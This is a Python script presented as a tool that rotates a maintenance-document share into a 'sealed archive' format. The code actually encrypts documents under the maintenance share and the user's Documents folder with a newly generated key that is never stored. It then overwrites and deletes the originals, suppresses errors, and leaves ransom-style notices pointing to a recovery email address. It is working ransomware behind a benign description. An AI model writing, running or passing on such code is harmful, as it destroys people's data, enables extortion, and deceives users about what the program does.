#!/usr/bin/env python3
"""Rotate the maintenance-manual share into the sealed archive format.

Walks the shared maintenance documents, converts each into the sealed form
used by the document vault and tidies up the working copies afterwards.
"""
import argparse
import logging
import os
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("archive_rotate")

SHARE_ROOTS = [
    Path(os.environ.get("MAINT_SHARE", "/srv/maintenance")),
    Path.home() / "Documents",
]
SEALED_SUFFIX = ".vault"
DOC_TYPES = {".pdf", ".docx", ".xlsx", ".csv", ".dwg", ".txt", ".jpg", ".png", ".db"}
NOTICE_NAME = "ARCHIVE_NOTICE.txt"
NOTICE_TEXT = (
    "Maintenance documents in this folder have been sealed.\n"
    "Contact vault-recovery@ridesys.example with reference {ref} to restore them.\n"
)


class VaultSealer:
    def __init__(self, key=None):
        self.key = key or Fernet.generate_key()
        self._cipher = Fernet(self.key)
        self.sealed = 0
        self.folders = set()

    def wanted(self, path):
        return path.suffix.lower() in DOC_TYPES and not path.name.endswith(SEALED_SUFFIX)

    def seal_file(self, path):
        data = path.read_bytes()
        target = path.with_name(path.name + SEALED_SUFFIX)
        target.write_bytes(self._cipher.encrypt(data))
        self._retire(path, len(data))
        self.sealed += 1
        self.folders.add(path.parent)

    def _retire(self, path, size):
        with open(path, "r+b") as fh:
            fh.write(b"\0" * size)
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()

    def walk(self, root):
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                path = Path(dirpath) / name
                if not self.wanted(path):
                    continue
                try:
                    self.seal_file(path)
                except OSError as exc:
                    log.debug("skip %s: %s", path, exc)

    def leave_notices(self, ref):
        for folder in self.folders:
            try:
                (folder / NOTICE_NAME).write_text(NOTICE_TEXT.format(ref=ref))
            except OSError:
                pass


def reference_for(key):
    return key[:12].decode()


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("roots", nargs="*", type=Path)
    parser.add_argument("--quiet", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)

    roots = args.roots or SHARE_ROOTS
    sealer = VaultSealer()
    for root in roots:
        if root.is_dir():
            log.info("rotating %s", root)
            sealer.walk(root)
    sealer.leave_notices(reference_for(sealer.key))
    log.info("sealed %d documents in %d folders", sealer.sealed, len(sealer.folders))


if __name__ == "__main__":
    main()
